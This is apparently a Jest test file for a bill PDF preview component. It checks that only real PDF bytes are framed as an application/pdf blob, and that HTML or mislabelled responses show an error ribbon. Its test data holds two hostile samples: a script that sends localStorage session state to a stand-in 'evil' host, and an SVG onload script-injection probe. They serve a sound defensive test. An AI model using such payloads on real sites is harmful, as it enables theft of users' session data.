// The bill preview (issue 24) through the real bills client over a fake gateway: only bytes that start with %PDF- reach
// the frame, as an application/pdf Blob; an HTML answer, or one that claims application/pdf without the PDF header,
// is the preview's error ribbon and no frame at all.
import "../../textEncoder";
import React from "react";
import { screen, waitFor } from "@testing-library/react";
import { AxiosHeaders, isAxiosError, type AxiosAdapter } from "axios";
import { createBillsApi, type BillsApi } from "../../../src/clients/gateway/billing/billsClient";
import { emptyTokens, setBaseTokens } from "../../../src/domain/session/tokens";
import PdfPreview from "../../../src/ecare/billing/details/PdfPreview";
import { pair } from "../../domain/session/fixtures";
import { fakeGateway, memoryPort } from "../../clients/gateway/fakeGateway";
import { renderScreen } from "./screenSetup";

let mockApi: BillsApi;
jest.mock("../../../src/hooks/boundClient", () => ({ boundClient: () => mockApi }));

const createObjectURL = jest.fn((_: Blob) => "blob:http://localhost/preview-1");
const revokeObjectURL = jest.fn();
Object.assign(URL, { createObjectURL, revokeObjectURL });

/** The real bills client; the gateway answers every download with `body` typed `contentType`. */
function answering(body: string, contentType: string) {
  const data = new TextEncoder().encode(body);
  const gw = fakeGateway(() => ({ status: 200, data: data.buffer.slice(data.byteOffset, data.byteOffset + data.byteLength) }));
  const adapter: AxiosAdapter = async (config) => {
    try {
      return { ...(await gw.adapter(config)), headers: AxiosHeaders.from({ "content-type": contentType }) };
    } catch (e) {
      if (isAxiosError(e) && e.response) e.response.headers = AxiosHeaders.from({ "content-type": contentType });
      throw e;
    }
  };
  mockApi = createBillsApi(memoryPort(setBaseTokens(emptyTokens(), pair("base"))), { adapter });
  return gw;
}

const FRAME = "Previzualizare factură";

beforeEach(() => {
  createObjectURL.mockClear();
  revokeObjectURL.mockClear();
});

describe("SPEC §7 bill document in the preview: a PDF only, as application/pdf (issue 24)", () => {
  it("a PDF answer is framed from an application/pdf blob: address", async () => {
    const gw = answering("%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n", "application/octet-stream");
    renderScreen(<PdfPreview billId="1000001012605" type="PDF_1P" fileName="sumar.pdf" />);
    const frame = await screen.findByTitle(FRAME);
    expect(frame).toHaveAttribute("src", "blob:http://localhost/preview-1");
    expect(createObjectURL).toHaveBeenCalledTimes(1);
    expect(createObjectURL.mock.calls[0]![0].type).toBe("application/pdf");
    expect(gw.calls[0]!.path).toBe("/ebill/customerBill/VDF1000001012605/billDocument/PDF_1P/download");
  });

  it.each([
    ["a text/html answer", "<!doctype html><script>fetch('//evil/?'+localStorage['aria-state'])</script>", "text/html"],
    ["an application/pdf content type whose bytes do not start with %PDF-", "<svg onload='alert(1)'/>%PDF-1.4", "application/pdf"],
  ])("the preview refuses %s: the error ribbon, no frame, no blob: address", async (_, body, type) => {
    answering(body, type);
    renderScreen(<PdfPreview billId="1000001012605" type="PDF_1P" />);
    expect(await screen.findByRole("alert")).toHaveTextContent("Nu am putut încărca previzualizarea facturii.");
    await waitFor(() => expect(screen.queryByText("Se încarcă previzualizarea…")).not.toBeInTheDocument());
    expect(screen.queryByTitle(FRAME)).not.toBeInTheDocument();
    expect(createObjectURL).not.toHaveBeenCalled();
  });
});
